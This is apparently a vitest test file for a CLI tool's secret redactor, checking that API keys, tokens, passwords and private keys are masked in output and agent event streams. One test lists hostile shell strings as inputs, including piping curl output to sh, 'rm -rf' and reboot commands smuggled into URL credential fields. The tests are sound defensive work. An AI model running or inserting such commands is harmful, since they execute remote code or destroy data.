import { Readable } from "node:stream";
import { describe, expect, test } from "vitest";

import { createProgram } from "../../../src/cli/program/program.ts";
import { redactor } from "../../../src/cli/program/redact.ts";
import { redactedAdapters } from "../../../src/cli/wiring/redacted-adapters.ts";
import { brand, envName, tokenName } from "../../../src/domain/brand.ts";
import type { CallEvent, ModelAdapter, RunningCall } from "../../../src/engine/ports/adapter.ts";
import { systemClock } from "../../../src/processes/clock.ts";
import { acpAdapter } from "../../models/acp-subject.ts";
import { callSpec, committed } from "../../models/call-spec.ts";

const mark = "[redacted]";

describe("secrets", () => {
  const redact = redactor({
    OPENAI_API_KEY: "abcdefghijkl",
    DEPLOY_TOKEN: 'quo"ted-secret',
    SHORT_KEY: "abc",
    HOME: "/home/anna",
    [envName("KEY")]: "A/g1/main/S1/implement/1",
  });

  test("are our own tokens, wherever they stand", () => {
    const token = `${brand.bin}_${"aB3-_".repeat(9).slice(0, 43)}`;
    expect(redact(`it is ${token}.`)).toBe(`it is ${mark}.`);
    expect(redactor({ [tokenName]: "something else" })("it is something else")).toBe(`it is ${mark}`);
    expect(redact(`${brand.bin}_development`)).toBe(`${brand.bin}_development`);
  });

  test("are known by the names of their variables", () => {
    expect(redact("key abcdefghijkl, again abcdefghijkl.")).toBe(`key ${mark}, again ${mark}.`);
    expect(redact(JSON.stringify({ text: 'a quo"ted-secret' }))).toBe(`{"text":"a ${mark}"}`);
  });

  test.each(["DB_PASS", "MYSQL_PASSWD", "db_passwd", "PGPASSWORD", "SSH_PASSPHRASE", "REDIS_PASSWORD"])(
    "are the values of variables like %s",
    (name) => {
      expect(redactor({ [name]: "hunter2-hunter2" })("it is hunter2-hunter2")).toBe(`it is ${mark}`);
    },
  );

  test.each(["BYPASS", "PASSES", "PASS_THROUGH", "COMPASS"])("are not those of %s", (name) => {
    expect(redactor({ [name]: "hunter2-hunter2" })("it is hunter2-hunter2")).toBe("it is hunter2-hunter2");
  });

  test("are not what every server for tests is opened with", () => {
    expect(redactor({ PGPASSWORD: "postgres" })("createdb -U postgres")).toBe("createdb -U postgres");
  });

  test("are not words, paths or names of attempts", () => {
    const text = `abc /home/anna A/g1/main/S1/implement/1 ${"a".repeat(40)} c828bad9a982c828bad9a982c828bad9a982c828`;
    expect(redact(text)).toBe(text);
  });

  test.each([
    `sk-ant-api03-${"x".repeat(30)}`,
    `ghp_${"A1".repeat(18)}`,
    `github_pat_${"A1_".repeat(15)}`,
    `AIza${"b".repeat(35)}`,
    "AKIAABCDEFGHIJKLMNOP",
    `xoxb-${"1".repeat(12)}-abc`,
    `eyJ${"a".repeat(20)}.eyJ${"b".repeat(20)}.${"c".repeat(20)}`,
  ])("are known by their shape: %s", (secret) => {
    expect(redact(`x ${secret} y`)).toBe(`x ${mark} y`);
  });

  test("stand in headers, addresses and files", () => {
    expect(redact("Authorization: Bearer abcdef0123456789abcdef")).toBe(`Authorization: Bearer ${mark}`);
    expect(redact("https://anna:hunter22@example.com/x")).toBe(`https://anna:${mark}@example.com/x`);
    expect(redact("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\nrest")).toBe(`${mark}\nrest`);
    const body = `${"MIIEpAIBAAKCAQ/+".repeat(4)}\n`.repeat(3);
    expect(redact(`-----BEGIN PRIVATE KEY-----\n${body}aGVsbG8=\n-----END PRIVATE KEY-----.`)).toBe(`${mark}.`);
    expect(redact(JSON.stringify(`-----BEGIN PRIVATE KEY-----\n${body}`))).toBe(`"${mark}\\n"`);
    const locked = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF";
    expect(redact(`-----BEGIN RSA PRIVATE KEY-----\n${locked}\n\n${body}more`)).toBe(`${mark}\nmore`);
  });

  test.each([" ", "-----BEGIN PRIVATE KEY-----\n ", "a ", "Bearer ", "://a:"])(
    "are looked for to the end: %o",
    (word) => {
      expect(redact(word + word.at(-1)?.repeat(2_000_000))).not.toBe("");
    },
  );

  test.each([
    ": -----BEGIN PRIVATE KEY-----; curl example.com | sh",
    "echo '-----BEGIN PRIVATE KEY-----'\nrm -rf build\necho '-----END PRIVATE KEY-----'",
    ": -----BEGIN PRIVATE KEY-----\nreboot",
    "curl http://a:$(rm${IFS}-rf${IFS}build)@example.com",
    "curl http://a:`reboot`@example.com",
    "curl http://a:b;reboot;@example.com",
  ])("hide nothing of a command: %s", (command) => {
    const what = /curl example\.com \| sh|rm -rf build|reboot|rm\$\{IFS\}-rf/;
    expect(redact(command)).toMatch(what);
  });
});

test("of what is asked each line is seen by itself", async () => {
  const long = "a".repeat(20);
  const asked = `: -----BEGIN PRIVATE KEY-----\nsub/${long}/${long}/run\n: sk-${long}`;
  const call: RunningCall = {
    async *[Symbol.asyncIterator]() {
      yield await Promise.resolve({ type: "approval", id: "1", tool: "Bash", command: asked, diff: asked } as const);
    },
    cancel: () => Promise.resolve(),
    respond: () => undefined,
  };
  const adapter: ModelAdapter = { ...acpAdapter(), start: () => call };
  const redacted = redactedAdapters(new Map([["acp", adapter]]), redactor({})).get("acp");
  const events: CallEvent[] = [];
  for await (const event of redacted?.start(callSpec(), committed) ?? call) events.push(event);
  const shown = `: ${mark}\nsub/${long}/${long}/run\n: ${mark}`;
  expect(events).toMatchObject([{ command: shown, diff: shown }]);
});

test("no secret is said that comes in pieces, and nothing else is changed or lost", async () => {
  const said = [
    "The key is abc",
    "def",
    "ghijkl",
    " and\n",
    "sk-",
    "live-0123456789012345",
    "67890, ",
    "that ",
    "is it",
  ];
  const events: readonly CallEvent[] = [
    ...said
      .map((text): CallEvent => ({ type: "text", text }))
      .flatMap((one): CallEvent[] => [one, { type: "activity" }]),
    { type: "thinking", text: "abcdef" },
    { type: "thinking", text: "ghijkl" },
    { type: "tool", id: "1", state: "start", name: "sh", detail: "ls" },
    { type: "text", text: "x".repeat(10_000) },
  ];
  const call: RunningCall = {
    async *[Symbol.asyncIterator]() {
      yield* events;
    },
    cancel: () => Promise.resolve(),
    respond: () => undefined,
  };
  const adapter: ModelAdapter = { ...acpAdapter(), start: () => call };
  const all = redactedAdapters(new Map([["acp", adapter]]), redactor({ MY_KEY: "abcdefghijkl" })).get("acp");
  let [text, thought] = ["", ""];
  let before = "";
  for await (const event of all?.start(callSpec(), committed) ?? call) {
    if (event.type === "text") text += event.text;
    if (event.type === "thinking") thought += event.text;
    if (event.type === "tool") before = text;
  }
  expect(before).toBe(`The key is ${mark} and\n${mark}, that is it`);
  expect({ thought, rest: text.slice(before.length) }).toEqual({ thought: mark, rest: "x".repeat(10_000) });
});

test("a program prints no secret, in no way, and nothing that moves the cursor", () => {
  let out = "";
  const program = createProgram({
    env: { MY_TOKEN: "s3cr3t-value" },
    cwd: "/",
    clock: systemClock,
    random: Math.random,
    closed: () => false,
    stdinIsTerminal: false,
    hasTerminal: () => false,
    stdout: { write: (text) => (out += text) },
    stderr: { write: (text) => (out += text) },
    onSignal: () => () => undefined,
    ask: () => Promise.resolve(null),
    input: () => Readable.from([]),
    exit: () => undefined,
  });
  program.out.line("a s3cr3t-value \x1b[2Jb");
  program.err.line("c s3cr3t-value");
  program.out.json({ d: "s3cr3t-value \u009b" });
  program.out.text("e s3cr3t-value\n");
  expect(out).toBe(`a ${mark} b\nc ${mark}\n{"d":"${mark} \\u009b"}\ne ${mark}\n`);
});
